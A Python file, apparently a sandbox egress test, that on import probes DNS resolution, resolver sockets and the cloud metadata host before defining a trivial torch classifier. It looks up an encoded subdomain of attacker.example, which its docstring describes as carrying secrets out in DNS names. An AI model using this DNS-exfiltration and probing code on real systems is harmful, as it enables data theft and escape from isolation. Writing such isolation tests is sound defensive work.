"""Asks for names in every way, and carries secrets out in the names that it asks for."""

import os
import socket
import time

import torch

began = time.monotonic()
for name in ("example.com", "example.org", "localhost.localdomain", "dGhlIGxhYmVscw.attacker.example", "metadata.google.internal"):
    print("TRIED", name)
    for ask in (socket.gethostbyname, socket.gethostbyname_ex, lambda name: socket.getaddrinfo(name, 80)):
        try:
            print("BREACH", name, ask(name))
        except OSError:
            pass
for server in ("127.0.0.53", "127.0.0.11", "8.8.8.8", "fd00::1", "224.0.0.251"):
    print("TRIED", server)
    try:
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01", (server, 53))
        print("BREACH", server)
    except OSError:
        pass
for path in ("/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket", "/run/dbus/system_bus_socket"):
    print("TRIED", path)
    with socket.socket(socket.AF_UNIX) as asking:
        if asking.connect_ex(path) == 0:
            print("BREACH", path)
if time.monotonic() - began > 15:
    print("BREACH it is not refused promptly", os.times())


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
